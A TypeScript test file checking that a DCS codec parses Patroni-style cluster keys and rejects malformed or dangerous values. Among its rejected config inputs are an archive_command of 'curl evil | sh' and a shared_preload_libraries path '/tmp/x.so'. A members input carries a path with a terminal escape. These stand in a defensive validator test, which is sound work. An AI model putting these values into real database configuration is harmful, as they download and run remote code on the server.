import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import * as codec from '../../src/dcs/codec.js';
import { classifyKey, clusterPrefix, memberNameOf, prefixRangeEnd } from '../../src/dcs/keys.js';

type Case = [label: string, raw: string, expected: unknown];

const member = { conn_url: 'postgres://10.0.0.1:5432/postgres', api_url: 'http://10.0.0.1:8008/patroni', state: 'running' };
const config = { ttl: 30, loop_wait: 10, retry_timeout: 10, maximum_lag_on_failover: 1048576 };
/** What checkDynamic fills in for a config key that leaves the optional fields out. */
const defaulted = { postgresql: { parameters: {} }, pause: false, failsafe_mode: true, synchronous_mode: false, synchronous_mode_strict: false };
const GARBAGE = Symbol('garbage');

const tables: Record<string, { parse: (raw: string) => codec.Parsed<unknown>; cases: Case[] }> = {
  leader: {
    parse: codec.parseLeader,
    cases: [
      ['plain name', 'node1', 'node1'],
      ['name with dash and dot', 'pg-1.example', 'pg-1.example'],
      ['empty', '', GARBAGE],
      ['newline', 'a\nb', GARBAGE],
      ['too long', 'x'.repeat(300), GARBAGE],
    ],
  },
  initialize: {
    parse: codec.parseInitialize,
    cases: [
      ['system identifier', '7312345678901234567', '7312345678901234567'],
      ['empty while bootstrapping', '', ''],
      ['letters', 'abc', GARBAGE],
      ['JSON', '{"a":1}', GARBAGE],
      ['negative', '-1', GARBAGE],
    ],
  },
  'optime/leader': {
    parse: codec.parseOptime,
    cases: [
      ['zero', '0', 0],
      ['bytes', '67108864', 67108864],
      ['empty', '', GARBAGE],
      ['float', '1.5', GARBAGE],
      ['hex', '0x10', GARBAGE],
      ['LSN notation', '0/3000060', GARBAGE],
      ['beyond safe integer', '99999999999999999', GARBAGE],
      ['negative', '-5', GARBAGE],
    ],
  },
  'members/<name>': {
    parse: codec.parseMember,
    cases: [
      ['minimal', JSON.stringify({ ...member, role: 'replica' }), { ...member, role: 'replica' }],
      [
        'full, unknown fields dropped',
        JSON.stringify({ ...member, role: 'master', xlog_location: 123, timeline: 2, tags: { nofailover: true }, version: '3.0', extra: 1 }),
        { ...member, role: 'master', xlog_location: 123, timeline: 2, tags: { nofailover: true }, version: '3.0' },
      ],
      ['Patroni "primary" role', JSON.stringify({ ...member, role: 'primary' }), { ...member, role: 'master' }],
      ['null optional fields', JSON.stringify({ ...member, role: 'replica', xlog_location: null, tags: null }), { ...member, role: 'replica' }],
      ['bad JSON', '{"conn_url":', GARBAGE],
      ['not an object', '[1,2]', GARBAGE],
      ['JSON null', 'null', GARBAGE],
      ['missing conn_url', JSON.stringify({ api_url: 'x', state: 'running', role: 'replica' }), GARBAGE],
      ['unknown role', JSON.stringify({ ...member, role: 'king' }), GARBAGE],
      ['string xlog_location', JSON.stringify({ ...member, role: 'replica', xlog_location: '123' }), GARBAGE],
      ['negative timeline', JSON.stringify({ ...member, role: 'replica', timeline: -1 }), GARBAGE],
      ['tags not an object', JSON.stringify({ ...member, role: 'replica', tags: 'x' }), GARBAGE],
      ['nofailover not boolean', JSON.stringify({ ...member, role: 'replica', tags: { nofailover: 'yes' } }), GARBAGE],
      ['empty string', '', GARBAGE],
      ['moved-aside copies', JSON.stringify({ ...member, role: 'replica', moved_aside: ['/var/lib/pg/data.rewind-failed.20261207T201500Z'] }), { ...member, role: 'replica', moved_aside: ['/var/lib/pg/data.rewind-failed.20261207T201500Z'] }],
      ['moved_aside empty list dropped', JSON.stringify({ ...member, role: 'replica', moved_aside: [] }), { ...member, role: 'replica' }],
      ['moved_aside not a list', JSON.stringify({ ...member, role: 'replica', moved_aside: '/x' }), GARBAGE],
      ['moved_aside relative path', JSON.stringify({ ...member, role: 'replica', moved_aside: ['data.reinit.20261207T201500Z'] }), GARBAGE],
      ['moved_aside with a terminal escape', JSON.stringify({ ...member, role: 'replica', moved_aside: ['/x\u001b[2J'] }), GARBAGE],
      ['moved_aside too long a list', JSON.stringify({ ...member, role: 'replica', moved_aside: Array.from({ length: 65 }, (_, i) => `/d${i}`) }), GARBAGE],
    ],
  },
  config: {
    parse: codec.parseConfig,
    cases: [
      ['without postgresql: the rest defaulted as in bootstrap.dcs', JSON.stringify(config), { ...config, ...defaulted }],
      [
        'full',
        JSON.stringify({ ...config, pause: true, postgresql: { parameters: { max_connections: 100, wal_log_hints: 'on', hot_standby: true } }, synchronous_mode: true }),
        { ...config, ...defaulted, pause: true, postgresql: { parameters: { max_connections: 100, wal_log_hints: 'on', hot_standby: true } }, synchronous_mode: true },
      ],
      // The same validator as the file's bootstrap.dcs: a foreign field is a typo as there.
      ['foreign field', JSON.stringify({ ...config, postgresql: { parameters: {}, use_pg_rewind: true } }), GARBAGE],
      ['empty object', '{}', GARBAGE],
      ['ttl shorter than loop_wait + 2 * retry_timeout', JSON.stringify({ ...config, ttl: 20 }), GARBAGE],
      ['archive_command (runs a command)', JSON.stringify({ ...config, postgresql: { parameters: { archive_command: 'curl evil | sh' } } }), GARBAGE],
      ['shared_preload_libraries (loads code)', JSON.stringify({ ...config, postgresql: { parameters: { shared_preload_libraries: '/tmp/x.so' } } }), GARBAGE],
      ['bad JSON', '{ttl: 30}', GARBAGE],
      ['string ttl', JSON.stringify({ ...config, ttl: '30' }), GARBAGE],
      ['zero loop_wait', JSON.stringify({ ...config, loop_wait: 0 }), GARBAGE],
      ['missing retry_timeout', JSON.stringify({ ttl: 30, loop_wait: 10, maximum_lag_on_failover: 0 }), GARBAGE],
      ['negative lag', JSON.stringify({ ...config, maximum_lag_on_failover: -1 }), GARBAGE],
      ['pause not boolean', JSON.stringify({ ...config, pause: 'yes' }), GARBAGE],
      ['parameters array', JSON.stringify({ ...config, postgresql: { parameters: [1] } }), GARBAGE],
      ['parameter object value', JSON.stringify({ ...config, postgresql: { parameters: { a: { b: 1 } } } }), GARBAGE],
      ['array', '[]', GARBAGE],
    ],
  },
  history: {
    parse: codec.parseHistory,
    cases: [
      ['empty', '[]', []],
      [
        'Patroni rows of 3, 4 and 5 elements',
        JSON.stringify([[1, 25165984, 'no recovery target specified'], [2, 50331808, 'x', '2024-01-01T00:00:00+00:00'], [3, 83886240, 'y', '2024-01-02T00:00:00+00:00', 'node2']]),
        [[1, 25165984, 'no recovery target specified'], [2, 50331808, 'x', '2024-01-01T00:00:00+00:00'], [3, 83886240, 'y', '2024-01-02T00:00:00+00:00', 'node2']],
      ],
      ['null timestamp with leader', JSON.stringify([[1, 5, 'r', null, 'n']]), [[1, 5, 'r', undefined, 'n']]],
      ['bad JSON', '[[1,2,', GARBAGE],
      ['object', '{"a":1}', GARBAGE],
      ['row too short', '[[1, 2]]', GARBAGE],
      ['string lsn', '[[1, "0/3000060", "r"]]', GARBAGE],
      ['row not array', '[1]', GARBAGE],
      ['reason not string', '[[1, 2, 3]]', GARBAGE],
    ],
  },
  failover: {
    parse: codec.parseFailover,
    cases: [
      ['switchover', JSON.stringify({ leader: 'a', member: 'b' }), { leader: 'a', member: 'b' }],
      ['failover', JSON.stringify({ member: 'b' }), { member: 'b' }],
      ['scheduled', JSON.stringify({ leader: 'a', scheduled_at: '2030-01-01T00:00:00Z' }), { leader: 'a', scheduled_at: '2030-01-01T00:00:00Z' }],
      ['null fields ignored', JSON.stringify({ leader: 'a', member: null }), { leader: 'a' }],
      ['empty object', '{}', GARBAGE],
      ['bad JSON', 'leader=a', GARBAGE],
      ['number member', JSON.stringify({ member: 3 }), GARBAGE],
      ['bad timestamp', JSON.stringify({ leader: 'a', scheduled_at: 'tomorrow-ish' }), GARBAGE],
      ['empty string', '', GARBAGE],
    ],
  },
  sync: {
    parse: codec.parseSync,
    cases: [
      ['both set', JSON.stringify({ leader: 'a', sync_standby: 'b' }), { leader: 'a', sync_standby: 'b' }],
      ['standby null', JSON.stringify({ leader: 'a', sync_standby: null }), { leader: 'a', sync_standby: null }],
      ['missing fields', '{}', { leader: null, sync_standby: null }],
      ['bad JSON', '{', GARBAGE],
      ['array', '["a"]', GARBAGE],
      ['number leader', JSON.stringify({ leader: 1 }), GARBAGE],
    ],
  },
};

describe('dcs codec: parse each key', () => {
  for (const [key, { parse, cases }] of Object.entries(tables)) {
    for (const [label, raw, expected] of cases) {
      it(`${key}: ${label}`, () => {
        const parsed = parse(raw);
        if (expected === GARBAGE) {
          assert.equal(parsed.ok, false, `expected garbage, got ${JSON.stringify(parsed)}`);
          if (!parsed.ok) assert.ok(parsed.reason.length > 0);
        } else {
          assert.deepEqual(parsed, { ok: true, value: expected });
        }
      });
    }
  }
});

describe('dcs codec: serialize round-trips', () => {
  it('member, config, history, failover, sync, optime', () => {
    const m = { ...member, role: 'replica' as const, xlog_location: 5, tags: { nofailover: false } };
    assert.deepEqual(codec.parseMember(codec.serializeMember(m)), { ok: true, value: m });
    const c = { ...config, ...defaulted, postgresql: { parameters: { work_mem: 1 } } };
    assert.deepEqual(codec.parseConfig(codec.serializeConfig(c)), { ok: true, value: c });
    const h: [number, number, string, string?, string?][] = [[1, 2, 'r', 't', 'n']];
    assert.deepEqual(codec.parseHistory(codec.serializeHistory(h)), { ok: true, value: h });
    assert.deepEqual(codec.parseFailover(codec.serializeFailover({ member: 'b' })), { ok: true, value: { member: 'b' } });
    const s = { leader: 'a', sync_standby: null };
    assert.deepEqual(codec.parseSync(codec.serializeSync(s)), { ok: true, value: s });
    assert.equal(codec.serializeOptime(123.9), '123');
    assert.throws(() => codec.serializeOptime(-1), RangeError);
    assert.throws(() => codec.serializeOptime(Number.NaN), RangeError);
  });
});

describe('dcs codec: buildClusterView', () => {
  const entry = (key: string, value: string, modRevision = '7', lease = '0') => ({ key, value, modRevision, lease });

  it('assembles a view and reads garbage as absent', () => {
    const garbage: codec.Garbage[] = [];
    const view = codec.buildClusterView(
      [
        entry('leader', 'b', '42', '7587869876'),
        entry('members/b', JSON.stringify({ ...member, role: 'master' })),
        entry('members/a', JSON.stringify({ ...member, role: 'replica' })),
        entry('members/x', '{not json'),
        entry('config', '{"ttl":"thirty"}'),
        entry('history', 'nope'),
        entry('failover', '[]'),
        entry('optime/leader', 'abc'),
        entry('sync', '{'),
        entry('initialize', '123'),
        entry('status', 'whatever'),
      ],
      (g) => garbage.push(g),
    );
    assert.deepEqual(view.leader, { name: 'b', revision: '42', lease: '7587869876' });
    assert.deepEqual(view.members.map((m) => m.name), ['a', 'b']);
    assert.equal(view.members[1]!.role, 'master');
    assert.equal(view.initialize, '123');
    assert.equal(view.config, null);
    assert.equal(view.configRevision, '7', 'an invalid config keeps its revision: PUT /config can replace it');
    assert.match(view.configError ?? '', /config\.ttl/);
    assert.deepEqual(view.history, []);
    assert.equal(view.failover, null);
    assert.equal(view.leaderOptime, null);
    assert.equal(view.sync, null);
    assert.deepEqual(garbage.map((g) => g.key).sort(), ['config', 'failover', 'history', 'members/x', 'optime/leader', 'sync']);
  });

  it('empty prefix gives the empty view', () => {
    assert.deepEqual(codec.buildClusterView([], () => assert.fail('no garbage expected')), codec.emptyClusterView());
  });

  it('config revision comes from the config key', () => {
    const view = codec.buildClusterView([entry('config', JSON.stringify(config), '99')], () => undefined);
    assert.equal(view.configRevision, '99');
    assert.equal(view.config?.ttl, 30);
  });
});

describe('dcs keys', () => {
  const prefixes: [string, string, string][] = [
    ['service', 'demo', '/service/demo/'],
    ['/service/', '/demo/', '/service/demo/'],
    ['//a//b/', 'c', '/a/b/c/'],
    ['', 'demo', '/demo/'],
  ];
  for (const [namespace, scope, expected] of prefixes) {
    it(`prefix of ${JSON.stringify(namespace)} + ${JSON.stringify(scope)}`, () => {
      assert.equal(clusterPrefix(namespace, scope), expected);
    });
  }
  it('rejects an empty prefix', () => assert.throws(() => clusterPrefix('/', '')));

  it('classifies keys', () => {
    assert.equal(classifyKey('leader'), 'leader');
    assert.equal(classifyKey('failover'), 'failover');
    assert.equal(classifyKey('config'), 'config');
    assert.equal(classifyKey('members/a'), 'members');
    assert.equal(classifyKey('members/'), 'other');
    assert.equal(classifyKey('optime/leader'), 'optime');
    assert.equal(classifyKey('initialize'), 'other');
    assert.equal(memberNameOf('members/a/b'), null);
  });

  it('range end of a prefix', () => {
    assert.deepEqual(prefixRangeEnd(Buffer.from('/a/')), Buffer.from('/a0'));
    assert.deepEqual(prefixRangeEnd(Buffer.from([0x61, 0xff])), Buffer.from([0x62]));
  });
});
